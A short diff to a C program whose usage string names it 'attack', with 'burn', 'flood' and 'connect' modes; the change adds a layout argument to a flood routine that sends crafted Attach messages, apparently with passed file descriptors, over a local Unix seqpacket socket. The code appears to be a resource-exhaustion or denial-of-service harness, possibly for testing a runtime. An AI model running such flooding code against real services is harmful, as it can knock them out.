@@ -48,7 +48,7 @@ static void put(unsigned char *e, int op, uint32_t socket, uint64_t data, uint64
     memcpy(e + 23, &size, 4);
 }
 
-static int flood(const char *path)
+static int flood(const char *path, int layout)
 {
     int s = socket(AF_UNIX, SOCK_SEQPACKET, 0), ends[2];
     struct sockaddr_un where = { .sun_family = AF_UNIX };
@@ -59,7 +59,7 @@ static int flood(const char *path)
     }
 
     unsigned char hello[256] = { 0 }, answer[256];
-    uint32_t words[] = { 48, 0, 6, 0, 0, 0, 0, 1 }; // Attach, in the layout of ControlHeader.Version
+    uint32_t words[] = { 48, 0, layout, 0, 0, 0, 0, 1 }; // Attach
     memcpy(hello, words, sizeof words);
     memcpy(hello + 56, "flood", 5);
     union { char bytes[CMSG_SPACE(64 * sizeof(int))]; struct cmsghdr align; } control;
@@ -146,10 +146,10 @@ int main(int count, char **words)
             __asm__ volatile("");
     }
 
-    if (count == 3 && !strcmp(words[1], "flood"))
-        return flood(words[2]);
+    if (count == 4 && !strcmp(words[1], "flood"))
+        return flood(words[2], atoi(words[3]));
     if (count == 4 && !strcmp(words[1], "connect"))
         return connects(words[2], atoi(words[3]));
-    fprintf(stderr, "usage: attack burn | flood ATTACH_SOCKET | connect ADDRESS PORT\n");
+    fprintf(stderr, "usage: attack burn | flood ATTACH_SOCKET LAYOUT | connect ADDRESS PORT\n");
     return 2;
 }
